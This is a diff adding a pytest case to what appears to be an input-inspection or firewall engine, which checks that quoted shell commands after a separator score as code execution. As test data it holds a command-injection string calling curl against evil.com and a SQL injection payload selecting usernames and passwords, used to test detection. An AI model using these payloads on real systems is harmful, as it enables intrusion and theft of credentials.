@@ -50,3 +50,10 @@ def test_sql_keywords_in_prose_still_do_not_fire_and_sql_still_does() -> None:
     engine = Engine(paranoia=1)
     assert engine.inspect_value("Great union of members; select the red one.").scores.get("sqli", 0) == 0
     assert engine.inspect_value("1 UNION SELECT username, password FROM users--").scores.get("sqli", 0) >= 5
+
+
+def test_a_quoted_command_after_a_separator_is_unquoted_before_matching() -> None:
+    engine = Engine(paranoia=1)
+    assert engine.inspect_value(";'curl' http://evil.com").scores.get("rce", 0) >= 5
+    assert engine.inspect_value(';"rmt" --version').scores.get("rce", 0) >= 5
+    assert engine.inspect_value('He said "yes" and left; see you').scores == {}
